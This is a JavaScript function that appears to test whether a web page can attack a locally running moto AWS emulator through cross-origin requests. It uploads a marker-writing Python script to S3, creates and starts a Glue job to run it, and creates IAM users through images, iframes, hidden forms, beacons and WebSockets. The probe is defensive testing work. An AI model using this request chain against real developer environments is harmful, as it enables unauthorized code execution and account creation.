async ([url, key, what]) => {
  const scope = `${key}/20261127/us-east-1`;
  const signed = service => ({Authorization:
    `AWS4-HMAC-SHA256 Credential=${scope}/${service}/aws4_request, SignedHeaders=host, Signature=0`});
  const query = service => `X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=${scope}/${service}/aws4_request` +
    `&X-Amz-Date=20261127T000000Z&X-Amz-Expires=9999&X-Amz-SignedHeaders=host&X-Amz-Signature=0`;
  const script = "import pathlib; pathlib.Path(MARK).write_text('ran')".replace("MARK", JSON.stringify(what));
  const command = {Name: "glueetl", ScriptLocation: "s3://attacked/script.py"};
  const calls = [["CreateJob", {Name: "attacked", Role: "r", Command: command}], ["StartJobRun", {JobName: "attacked"}]];
  const answers = [];
  const tried = async (name, promise) => {
    try {
      const answer = await Promise.race([promise, new Promise((_, no) => setTimeout(() => no("no answer"), 5000))]);
      answers.push([name, answer.type === "opaque" ? "unreadable" : `read ${answer.status}`]);
    } catch (error) {
      answers.push([name, "failed"]);
    }
  };
  const loaded = (element, address) => new Promise(done => {
    element.onload = element.onerror = () => done({type: "opaque"});
    document.body.append(element);
    if (address) element.src = address;
  });
  for (const mode of ["cors", "no-cors"]) {
    for (const [path, body] of [["/attacked", ""], ["/attacked/script.py", script]]) {
      const ask = {method: "PUT", body: body || undefined};
      await tried(`PUT ${mode}`, fetch(url + path, {...ask, mode, headers: signed("s3")}));
      await tried(`PUT ${mode}, presigned`, fetch(`${url}${path}?${query("s3")}`, {...ask, mode}));
      await tried(`POST ${mode}, presigned`, fetch(`${url}${path}?${query("s3")}`, {method: "POST", body, mode}));
    }
    for (const [target, call] of calls) {
      const body = JSON.stringify(call), headers = {"X-Amz-Target": `AWSGlue.${target}`, ...signed("glue")};
      await tried(`${target} ${mode}`, fetch(url + "/", {method: "POST", body, mode, headers}));
      await tried(`${target} ${mode}, text`, fetch(`${url}/?${query("glue")}`,
        {method: "POST", body, mode, headers: {"Content-Type": "text/plain"}}));
      await tried(`${target} ${mode}, form`, fetch(`${url}/?Action=${target}&${query("glue")}`,
        {method: "POST", body: new URLSearchParams({Action: target}), mode}));
    }
    await tried(`reset ${mode}`, fetch(url + "/moto-api/reset", {method: "POST", mode}));
  }
  await tried("image", loaded(new Image(), `${url}/?Action=CreateUser&UserName=attacked&${query("iam")}`));
  await tried("script", loaded(document.createElement("script"), `${url}/moto-api/data.json?${query("s3")}`));
  await tried("frame", loaded(document.createElement("iframe"), `${url}/?Action=CreateUser&UserName=attacked&${query("iam")}`));
  for (const type of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = `frame-${type}`;
    Object.assign(form, {action: `${url}/attacked?${query("s3")}`, method: "POST", enctype: type, target: frame.name});
    for (const [name, value] of [["key", "script.py"], ["AWSAccessKeyId", key], ["Action", "CreateUser"],
                                 ["UserName", "attacked"], ["Version", "2010-05-08"], ["file", script]]) {
      form.append(Object.assign(document.createElement("input"), {name, value}));
    }
    document.body.append(form);
    const done = loaded(frame);
    form.submit();
    await tried(`form ${type}`, done);
  }
  navigator.sendBeacon(`${url}/?Action=CreateUser&UserName=attacked&${query("iam")}`, new URLSearchParams({Action: "CreateUser"}));
  await tried("web socket", new Promise((yes, no) => {
    const socket = new WebSocket(`${url.replace("http", "ws")}/?${query("glue")}`);
    socket.onopen = () => yes({status: "open"});
    socket.onerror = () => no("refused");
  }));
  return answers;
}
